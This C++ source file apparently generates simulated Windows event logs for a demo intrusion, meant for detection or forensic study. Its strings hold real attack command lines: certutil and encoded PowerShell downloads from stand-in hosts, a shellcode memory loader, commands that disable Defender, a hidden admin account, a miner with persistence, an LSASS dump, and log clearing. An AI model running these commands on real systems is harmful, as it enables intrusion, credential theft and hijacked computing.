#include "tools/demo/host.h"

namespace xiezhi::demo {
namespace {

// Thursday, 12 March, in the night: passwords are guessed until one fits; the intruder looks round,
// blinds Defender, loads code into memory, leaves a hidden account and a miner, reads LSASS and
// clears the logs. Addresses and names are from the ranges reserved for documentation.
constexpr std::uint32_t kDay = 3;
constexpr const char* kIntruder = "203.0.113.45";
constexpr const char* kStage = "198.51.100.23";
constexpr const char* kPool = "198.51.100.77";
constexpr const char* kPoolName = "xmr-asia1.pool.example";
constexpr const char* kMiner = R"(C:\Windows\Temp\svchosts.exe)";
constexpr const char* kCopy = R"(C:\ProgramData\Microsoft\Update\svchosts.exe)";
constexpr const char* kSystem32 = R"(C:\Windows\System32\)";
constexpr const char* kPowerShell = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";

const Account& intruder() {
    static const Account account{"administrator", kComputer, std::string(kMachineSid) + "-500",
                                 0x7be3d20};
    return account;
}

std::string windows(const char* name) {
    return std::string(kSystem32) + name;
}

void guess_passwords(Host& host) {
    static const std::vector<std::string> guesses = {"administrator", "admin",  "test", "guest",
                                                     "sqladmin",      "backup", "user"};
    for (std::uint32_t second = 0; second < 15 * 60; second += 4 + host.random().below(5)) {
        const bool known = host.random().below(3) != 0;
        const std::string& name = known ? guesses.front() : host.random().pick(guesses);
        host.logon_failed(Host::local(kDay, 1, 32, second), name,
                          {kIntruder, "WIN-7Q2K", 40000 + host.random().below(20000)},
                          name == guesses.front());
    }
    host.logon(Host::local(kDay, 1, 47, 31), intruder(), 3, {kIntruder, "WIN-7Q2K", 52110});
    host.logon(Host::local(kDay, 1, 48, 2), intruder(), 10, {kIntruder, kComputer, 0});
}

Process look_round(Host& host) {
    const Process shell = host.start(Host::local(kDay, 1, 49, 10), intruder(), windows("cmd.exe"),
                                     R"("C:\Windows\system32\cmd.exe")", Host::explorer());
    struct Command {
        const char* program;
        const char* line;
    };
    static const std::vector<Command> commands = {
        {"whoami.exe", "whoami  /all"},   {"ipconfig.exe", "ipconfig  /all"},
        {"net.exe", "net  user"},         {"net.exe", "net  localgroup administrators"},
        {"systeminfo.exe", "systeminfo"}, {"tasklist.exe", "tasklist  /svc"},
        {"quser.exe", "quser"},
    };
    std::uint32_t second = 20;
    for (const Command& command : commands) {
        host.start(Host::local(kDay, 1, 49, second), intruder(), windows(command.program),
                   command.line, shell);
        second += 9;
    }
    return shell;
}

Process blind_defender(Host& host, const Process& shell) {
    const Process browser =
        host.start(Host::local(kDay, 1, 51, 30), intruder(), windows("certutil.exe"),
                   std::string("certutil  -urlcache -split -f http://") + kStage +
                       R"(/t.exe C:\Users\Public\t.exe)",
                   shell);
    host.connected(Host::local(kDay, 1, 51, 31), browser, kStage, 80);
    host.file_written(Host::local(kDay, 1, 51, 33), browser, R"(C:\Users\Public\t.exe)");
    host.defender(Host::local(kDay, 1, 51, 40), 1116,
                  {{"Detection ID", guid_of("detection")},
                   {"Threat ID", "2147735503"},
                   {"Threat Name", "Trojan:Win64/CoinMiner!rfn"},
                   {"Severity ID", "5"},
                   {"Severity Name", "Severe"},
                   {"Category Name", "Trojan"},
                   {"Process Name", windows("certutil.exe")},
                   {"Detection User", std::string(kComputer) + R"(\administrator)"},
                   {"Path", R"(file:_C:\Users\Public\t.exe)"},
                   {"Action Name", "%%887"}});
    const Process blinding =
        host.start(Host::local(kDay, 1, 53), intruder(), kPowerShell,
                   R"(powershell  -c "Set-MpPreference -DisableRealtimeMonitoring $true; )"
                   R"(Add-MpPreference -ExclusionPath C:\ProgramData,C:\Windows\Temp")",
                   shell);
    host.powershell_started(Host::local(kDay, 1, 53, 1), blinding);
    host.script(Host::local(kDay, 1, 53, 2), blinding,
                {"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference "
                 "-ExclusionPath C:\\ProgramData,C:\\Windows\\Temp"},
                "", false);
    host.defender(Host::local(kDay, 1, 53, 4), 5001, {});
    host.defender(Host::local(kDay, 1, 53, 5), 5007,
                  {{"Old Value", ""},
                   {"New Value", R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\)"
                                 R"(C:\ProgramData = 0x0)"}});
    return blinding;
}

/// The loader's text is long enough for Windows to log it in three parts; what gives it away stands
/// in the first and in the last one.
std::vector<std::string> loader_script() {
    return {
        "$d = '[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint "
        "s, "
        "uint t, uint p);'\r\n"
        "$w = Add-Type -MemberDefinition $d -Name w -Namespace n -PassThru\r\n"
        "$m = $w::VirtualAlloc(0, $b.Length, 0x3000, 0x40)\r\n",
        "# " + std::string(6000, '-') +
            "\r\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $m, $b.Length)\r\n",
        "$d = '[DllImport(\"kernel32\")] public static extern IntPtr CreateThread(IntPtr a, uint "
        "s, "
        "IntPtr f, IntPtr p, uint c, IntPtr i);'\r\n"
        "$t = Add-Type -MemberDefinition $d -Name t -Namespace n -PassThru\r\n"
        "$t::CreateThread(0, 0, $m, 0, 0, 0)\r\n"};
}

void load_into_memory(Host& host, const Process& shell) {
    const Process loader = host.start(
        Host::local(kDay, 1, 55), intruder(), kPowerShell,
        "powershell  -nop -w hidden -ep bypass -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
        "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIA"
        "MwAvAGEALgBwAHMAMQAnACkA",
        shell);
    host.powershell_started(Host::local(kDay, 1, 55, 1), loader);
    host.script(Host::local(kDay, 1, 55, 2), loader,
                {std::string("IEX (New-Object Net.WebClient).DownloadString('http://") + kStage +
                 "/a.ps1')"},
                "", true);
    host.connected(Host::local(kDay, 1, 55, 3), loader, kStage, 80);
    host.script(Host::local(kDay, 1, 55, 6), loader, loader_script(), "", true);
}

void leave_account(Host& host, const Process& shell) {
    const Account hidden{"admin$", kComputer, std::string(kMachineSid) + "-1013", 0};
    host.start(Host::local(kDay, 2, 1), intruder(), windows("net.exe"),
               "net  user admin$ P@ss1020 /add", shell);
    host.account_created(Host::local(kDay, 2, 1, 1), intruder(), hidden);
    host.start(Host::local(kDay, 2, 1, 20), intruder(), windows("net.exe"),
               "net  localgroup administrators admin$ /add", shell);
    host.group_joined(Host::local(kDay, 2, 1, 21), intruder(), hidden, "Administrators",
                      "S-1-5-32-544");
    const Process reg = host.start(
        Host::local(kDay, 2, 2), intruder(), windows("reg.exe"),
        R"(reg  add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\)"
        R"(UserList" /v admin$ /t REG_DWORD /d 0 /f)",
        shell);
    host.registry_set(Host::local(kDay, 2, 2, 1), reg,
                      R"(HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\)"
                      R"(SpecialAccounts\UserList\admin$)",
                      "DWORD (0x00000000)");
}

Process start_miner(Host& host, FileTime time, const char* image, const Process& parent) {
    const Process miner = host.start(time, parent.account, image,
                                     std::string(image) + " -o stratum+tcp://" + kPoolName +
                                         ":3333 -u erp01 -p x --donate-level 1 -k",
                                     parent);
    host.name_asked({time.ticks + 6'000'000}, miner, kPoolName, kPool);
    host.connected({time.ticks + 9'000'000}, miner, kPool, 3333);
    return miner;
}

void leave_miner(Host& host, const Process& shell) {
    const Process copy = host.start(
        Host::local(kDay, 2, 4), intruder(), kPowerShell,
        std::string(R"(powershell  -c "(New-Object Net.WebClient).DownloadFile('http://)") +
            kStage + R"x(/x.exe','C:\Windows\Temp\svchosts.exe')")x",
        shell);
    host.connected(Host::local(kDay, 2, 4, 1), copy, kStage, 80);
    host.file_written(Host::local(kDay, 2, 4, 5), copy, kMiner);
    start_miner(host, Host::local(kDay, 2, 5), kMiner, shell);
    host.file_written(Host::local(kDay, 2, 6), shell, kCopy);
    const std::string install = std::string("sc  create WinUpdateHelper binPath= \"") + kCopy +
                                "\" start= auto DisplayName= \"Windows Update Helper\"";
    host.start(Host::local(kDay, 2, 7), intruder(), windows("sc.exe"), install, shell);
    host.service_installed(Host::local(kDay, 2, 7, 1), "Windows Update Helper", kCopy);
    const Process reg = host.start(
        Host::local(kDay, 2, 8), intruder(), windows("reg.exe"),
        std::string(
            R"(reg  add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v WinUpdate /d )") +
            kCopy + " /f",
        shell);
    host.registry_set(Host::local(kDay, 2, 8, 1), reg,
                      R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WinUpdate)", kCopy);
    host.start(
        Host::local(kDay, 2, 9), intruder(), windows("schtasks.exe"),
        std::string(R"(schtasks  /create /tn \WinUpdateCheck /sc minute /mo 30 /ru SYSTEM /tr )") +
            kCopy + " /f",
        shell);
    host.task(Host::local(kDay, 2, 9, 1), 106, R"(\WinUpdateCheck)",
              std::string(kComputer) + R"(\administrator)");
    // The miner works in the nights that follow, when nobody looks at the load.
    for (std::uint32_t day = kDay + 1; day < 7; ++day) {
        host.task(Host::local(day, 0, 30), 200, R"(\WinUpdateCheck)", kCopy);
        const Process miner =
            start_miner(host, Host::local(day, 0, 30, 1), kCopy, Host::task_host());
        for (std::uint32_t hour = 1; hour < 6; ++hour) {
            host.connected(Host::local(day, hour, host.random().below(60)), miner, kPool, 3333);
        }
    }
}

void take_credentials_and_leave(Host& host, const Process& shell) {
    const Process dump = host.start(
        Host::local(kDay, 2, 12), intruder(), windows("rundll32.exe"),
        R"(rundll32  C:\Windows\System32\comsvcs.dll, MiniDump 720 C:\Users\Public\l.dmp full)",
        shell);
    host.process_opened(Host::local(kDay, 2, 12, 1), dump, windows("lsass.exe"), 0x1fffff);
    host.file_written(Host::local(kDay, 2, 12, 2), dump, R"(C:\Users\Public\l.dmp)");
    host.start(Host::local(kDay, 4, 52), intruder(), windows("wevtutil.exe"),
               "wevtutil  cl Security", shell);
    host.security_cleared(Host::local(kDay, 4, 52, 1), intruder());
    host.start(Host::local(kDay, 4, 52, 9), intruder(), windows("wevtutil.exe"),
               "wevtutil  cl Application", shell);
    host.log_cleared(Host::local(kDay, 4, 52, 10), intruder(), "Application");
    host.logoff(Host::local(kDay, 4, 53), intruder(), 10);
}

}  // namespace

void tell_intrusion(Host& host) {
    guess_passwords(host);
    const Process shell = look_round(host);
    blind_defender(host, shell);
    load_into_memory(host, shell);
    leave_account(host, shell);
    leave_miner(host, shell);
    take_credentials_and_leave(host, shell);
}

}  // namespace xiezhi::demo
